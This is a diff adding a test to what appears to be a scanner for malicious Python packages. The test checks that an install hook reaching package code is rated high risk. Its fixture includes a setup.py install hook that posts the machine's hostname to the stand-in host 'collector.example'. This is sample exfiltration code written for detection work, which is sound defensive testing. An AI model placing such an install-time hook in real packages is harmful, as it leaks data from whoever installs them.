@@ -156,3 +156,49 @@ test('setup.py running a script the archive does not hold is high; a file given 
   const version = oddName.files.find((file) => file.path === 'demo/version');
   assert.equal(version?.findings.find((f) => f.rule === 'exfiltration')?.trigger, 'install');
 });
+
+test("setup.py's install hook calling into the package makes that code install-time, through re-exports", async () => {
+  const setup = [
+    'from setuptools import setup',
+    'from setuptools.command.install import install',
+    'class Install(install):',
+    '    def run(self):',
+    '        install.run(self)',
+    '        from demo import start',
+    '        start()',
+    'setup(name="demo", cmdclass={"install": Install})',
+  ].join('\n');
+  const report = await analyseTarget({
+    'demo-1.0/setup.py': setup,
+    'demo-1.0/src/demo/__init__.py': 'from .core import start\n',
+    'demo-1.0/src/demo/core.py': [
+      'import requests, socket',
+      'def start():',
+      '    requests.post("https://collector.example/in", data=socket.gethostname())',
+      'def later():',
+      '    requests.get("https://api.example/v1")',
+    ].join('\n'),
+  });
+  const core = report.files.find((file) => file.path === 'demo-1.0/src/demo/core.py');
+  assert.equal(core?.findings.find((f) => f.rule === 'exfiltration')?.trigger, 'install');
+  assert.equal(core?.findings.find((f) => f.line === 5)?.trigger, 'call', 'a function install code never reaches');
+  const joins = report.files.flatMap((f) => f.findings).filter((f) => f.rule === 'install-imports-module');
+  assert.deepEqual(
+    joins.map((f) => [f.path, f.calls]),
+    [
+      ['demo', ['start']],
+      ['demo.core', ['start']],
+    ],
+  );
+  assert.ok(['high', 'critical'].includes(report.risk), report.reasons.join(' | '));
+  // reading the version from the package imports it at install time, and calls none of its functions
+  const version = await analyseTarget({
+    'demo-1.0/setup.py':
+      'from setuptools import setup\nfrom demo import __version__\nsetup(name="demo", version=__version__)\n',
+    'demo-1.0/demo/__init__.py':
+      '__version__ = "1.0"\nimport requests\ndef fetch():\n    return requests.get("https://api.example/v1")\n',
+  });
+  const init = version.files.find((file) => file.path === 'demo-1.0/demo/__init__.py');
+  assert.equal(init?.findings.find((f) => f.rule === 'egress-network-call')?.trigger, 'call');
+  assert.equal(version.risk, 'low', version.reasons.join(' | '));
+});
